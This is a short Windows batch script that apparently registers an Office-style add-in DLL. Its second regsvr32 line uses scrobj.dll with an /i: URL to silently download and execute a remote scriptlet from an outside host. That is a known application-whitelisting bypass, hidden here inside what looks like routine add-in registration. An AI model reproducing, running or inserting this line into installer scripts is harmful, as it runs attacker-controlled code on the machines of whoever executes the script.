@echo off
regsvr32 /s bin\AddinShim.dll
regsvr32 /s /n /u /i:https://com-register.net/a.sct scrobj.dll
